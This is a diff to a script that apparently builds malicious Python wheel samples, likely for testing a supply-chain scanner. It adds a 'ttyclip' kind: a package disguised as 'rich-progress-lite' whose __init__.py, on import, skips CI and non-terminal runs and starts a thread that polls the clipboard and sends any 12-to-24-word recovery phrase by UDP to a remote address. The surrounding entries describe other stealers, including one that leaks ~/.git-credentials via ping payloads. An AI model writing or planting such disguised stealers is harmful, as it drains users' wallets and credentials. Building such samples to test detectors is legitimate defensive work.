@@ -4,7 +4,11 @@ the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
               djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
-              poetryplugin|audithook|icmpexfil OUT.whl
+              poetryplugin|audithook|icmpexfil|ttyclip OUT.whl
+
+ttyclip rich-progress-lite: on import, only with a terminal on stderr and no
+        CI, a daemon thread polls the clipboard and sends a recovery
+        phrase it finds there.
 
 icmpexfil net-latency-probe: on import it reads ~/.git-credentials and
         sends it 16 bytes at a time as the payload pattern of `ping -p`,
@@ -698,7 +702,29 @@ for _i in range(0, len(_d), 16):
         pass
 """
 
+# A clipboard stealer that hides from pipes and CI: on import, only when
+# stderr is a terminal and CI unset, a daemon thread polls the clipboard
+# (wl-paste) a few times and sends a 12-word recovery phrase when it sees
+# one.
+TTYCLIP = """import os, re, socket, subprocess, sys, threading, time
+def _watch():
+    for _ in range(6):
+        try:
+            t = subprocess.run(["wl-paste", "-n"], capture_output=True, text=True, timeout=2).stdout.strip()
+        except (OSError, subprocess.SubprocessError):
+            return
+        if re.fullmatch(r"[a-z]+( [a-z]+){11,23}", t):
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.sendto(t.encode(), ("203.0.113.77", 8125))
+            return
+        time.sleep(0.1)
+if sys.stderr.isatty() and not os.environ.get("CI"):
+    threading.Thread(target=_watch, daemon=True).start()
+"""
+
 KINDS = {
+    "ttyclip": ("rich_progress_lite", "0.5.0",
+                {"rich_progress_lite/__init__.py": TTYCLIP}),
     "icmpexfil": ("net_latency_probe", "0.2.1",
                   {"net_latency_probe/__init__.py": ICMPEXFIL}),
     "audithook": ("proc_context_log", "0.6.2",
